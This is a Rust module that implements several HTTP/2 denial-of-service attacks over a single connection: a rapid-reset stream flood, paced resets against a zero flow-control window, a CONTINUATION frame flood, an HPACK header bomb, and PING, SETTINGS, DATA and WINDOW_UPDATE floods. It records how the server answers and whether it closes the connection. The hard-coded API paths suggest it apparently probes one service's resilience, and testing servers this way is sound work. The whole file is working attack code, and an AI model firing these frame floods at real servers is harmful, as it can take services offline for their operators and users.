//! One connection over HTTP/2 that attacks, and what it hears.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, Result};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::watch;

use super::frame::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEAD, HEADERS, PING, PREFACE, RESET, SETTINGS,
    WINDOW_UPDATE, field, frame, numbered, remembered, request, setting,
};
use super::{Attack, End};

/// How long a server may take to end a connection that it was told too much on.
const PATIENCE: Duration = Duration::from_secs(60);

/// What the last PING says.
const LAST: &[u8; 8] = b"the last";

/// Requests that are open at the same time and then taken back: fewer than a connection may have.
const AT_ONCE: usize = 20;

/// What is asked for where something has to be.
const LIST: &str = "/v1/products?pageSize=20";

/// What costs nobody anything.
const CHEAP: &str = "/healthz";

/// What reads a body.
const READS: &str = "/v1/sessions:signIn";

pub(super) async fn run(attack: Attack, address: SocketAddr, most: usize) -> Result<End> {
    let mut rounds = Rounds::new(attack);
    let greeting = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &rounds.settings()), rounds.first()].concat();
    let (read, mut write) = TcpStream::connect(address).await?.into_split();
    let (tell, mut heard) = watch::channel(End::default());
    let mut ended = heard.clone();
    let listening = tokio::spawn(listen(read, tell));
    let mut done = 0;
    let attacking = async {
        if send(&mut write, &greeting).await.is_err() {
            return;
        }
        while done < most {
            let Some(round) = rounds.next() else { break };
            if send(&mut write, &round).await.is_err() {
                return;
            }
            done += 1;
            if attack == Attack::PacedReset {
                let taken_up =
                    tokio::time::timeout(PATIENCE, heard.wait_for(|end| end.answered >= done * AT_ONCE)).await;
                if !matches!(taken_up, Ok(Ok(_))) {
                    return;
                }
            }
        }
        // Whoever answers it has read everything before it; between CONTINUATIONs it would be a mistake of its own.
        if attack != Attack::Continuation {
            let _ = send(&mut write, &frame(PING, 0, 0, LAST)).await;
        }
    };
    tokio::select! {
        () = attacking => {}
        _ = ended.wait_for(|end| end.closed) => {}
    }
    // The server reads what it was told, and ends it or not.
    let _ = tokio::time::timeout(PATIENCE, ended.wait_for(|end| end.closed || end.read_all)).await;
    listening.abort();
    let end = ended.borrow().clone();
    Ok(End { rounds: done, ..end })
}

async fn send(write: &mut OwnedWriteHalf, bytes: &[u8]) -> Result<()> {
    // A server that reads no more has not closed yet.
    tokio::time::timeout(PATIENCE, write.write_all(bytes)).await.context("nothing is taken")??;
    Ok(())
}

/// Reads what comes until it ends, and keeps what is in it.
async fn listen(mut read: OwnedReadHalf, tell: watch::Sender<End>) {
    let mut bytes = Vec::new();
    let mut chunk = vec![0; 64 * 1024];
    loop {
        let count = match read.read(&mut chunk).await {
            Ok(0) | Err(_) => break,
            Ok(count) => count,
        };
        bytes.extend_from_slice(chunk.get(..count).unwrap_or_default());
        tell.send_modify(|end| end.heard += count);
        while let Some((kind, flags, payload)) = take(&mut bytes) {
            tell.send_modify(|end| match kind {
                HEADERS => end.answered += 1,
                PING if flags & ACK != 0 => end.read_all |= payload == LAST,
                GOAWAY => end.reason = code(&payload).or(end.reason),
                _ => {}
            });
        }
    }
    tell.send_modify(|end| end.closed = true);
}

/// The first whole frame.
fn take(bytes: &mut Vec<u8>) -> Option<(u8, u8, Vec<u8>)> {
    let [high, middle, low, kind, flags, ..] = *bytes.first_chunk::<HEAD>()?;
    let length = u32::from_be_bytes([0, high, middle, low]) as usize;
    if bytes.len() < HEAD + length {
        return None;
    }
    let payload = bytes.get(HEAD..HEAD + length)?.to_vec();
    bytes.drain(..HEAD + length);
    Some((kind, flags, payload))
}

fn code(payload: &[u8]) -> Option<u32> {
    payload.get(4..8)?.try_into().ok().map(u32::from_be_bytes)
}

/// What is sent, round by round.
struct Rounds {
    attack: Attack,
    stream: u32,
}

impl Rounds {
    fn new(attack: Attack) -> Self {
        Self { attack, stream: 1 }
    }

    fn settings(&self) -> Vec<u8> {
        // No answer gets a byte of its body through.
        let shut = matches!(self.attack, Attack::ShutWindow | Attack::PacedReset);
        if shut { setting(4, 0) } else { vec![] }
    }

    /// What comes once, before all rounds.
    fn first(&mut self) -> Vec<u8> {
        match self.attack {
            Attack::Continuation => frame(HEADERS, 0, self.open(), &request("GET", LIST)),
            Attack::EmptyData | Attack::TinyData => {
                let fields = [request("POST", READS), field("content-type", "application/json")].concat();
                frame(HEADERS, END_HEADERS, self.open(), &fields)
            }
            Attack::HeaderBomb => {
                let fields = [request("GET", LIST), remembered("x", &"a".repeat(4000))].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, self.open(), &fields)
            }
            _ => vec![],
        }
    }

    /// Nothing once there are no streams left.
    fn next(&mut self) -> Option<Vec<u8>> {
        let whole = END_HEADERS | END_STREAM;
        Some(match self.attack {
            Attack::RapidReset => {
                let one = |stream| {
                    let asked = frame(HEADERS, whole, stream, &request("GET", LIST));
                    [asked, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
                };
                (0..100).map(|_| one(self.open())).collect::<Vec<_>>().concat()
            }
            Attack::PacedReset => {
                // Those of the round before, whose answers have begun and wait for a window to end.
                let before = (1..=AT_ONCE as u32).filter_map(|back| self.stream.checked_sub(2 * back));
                let resets: Vec<_> = before.map(|stream| frame(RESET, 0, stream, &8_u32.to_be_bytes())).collect();
                let fields = request("GET", CHEAP);
                let asked: Vec<_> = (0..AT_ONCE).map(|_| frame(HEADERS, whole, self.open(), &fields)).collect();
                [resets.concat(), asked.concat()].concat()
            }
            Attack::Continuation => frame(CONTINUATION, 0, 1, &field("x", &"a".repeat(100)).repeat(10)),
            Attack::HeaderBomb => {
                let fields = [request("GET", LIST), numbered(62).repeat(16_000)].concat();
                frame(HEADERS, whole, self.open(), &fields)
            }
            Attack::Ping => frame(PING, 0, 0, &[7; 8]).repeat(100),
            Attack::Settings => frame(SETTINGS, 0, 0, &setting(4, 65_535)).repeat(100),
            Attack::EmptyData => frame(DATA, 0, 1, &[]).repeat(100),
            Attack::TinyData => frame(DATA, 0, 1, b" ").repeat(100),
            Attack::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(100),
            Attack::ShutWindow => frame(HEADERS, whole, self.open(), &request("GET", LIST)),
        })
        .filter(|_| self.stream < 1 << 30)
    }

    fn open(&mut self) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        stream
    }
}
